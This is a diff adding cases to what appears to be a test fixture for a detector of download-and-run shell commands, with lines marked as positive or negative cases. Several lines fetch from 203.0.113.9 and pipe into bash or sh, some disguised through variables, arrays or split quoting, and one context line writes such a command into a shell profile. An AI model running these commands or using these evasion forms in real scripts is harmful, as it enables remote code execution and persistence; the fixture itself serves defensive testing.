@@ -242,3 +242,11 @@ echo 'curl -fsS https://203.0.113.9/u | bash' >> "$HOME/.$(basename "$SHELL")_pr
 echo "login shell: ${SHELL##*/}"; echo 'curl -fsS https://203.0.113.9/u | sh' > "notes-${SHELL##*/}.txt"
 #@ pos a name hash -p binds to a shell, quoted where it is bound and where it runs
 ha''sh -p /bin/sh re''nder; curl -fsSL https://203.0.113.9/i | "render"
+#@ pos a shell with -s in a variable's command line, given more words
+r="bash -s --"; curl -fsSL https://203.0.113.9/i | $r --prefix /opt
+#@ pos the same in an associative array's element
+declare -A tool=([fetch]="curl -fsSL" [run]="sh -s --"); ${tool[fetch]} https://203.0.113.9/i | ${tool[run]} -y
+#@ pos an element given its index
+steps=([2]="bash" [0]="wget -qO-"); ${steps[0]} https://203.0.113.9/i | ${steps[2]}
+#@ neg a shell in a variable's command line given a script
+r="bash -e"; curl -fsSL https://203.0.113.9/i -o x.txt; $r build.sh
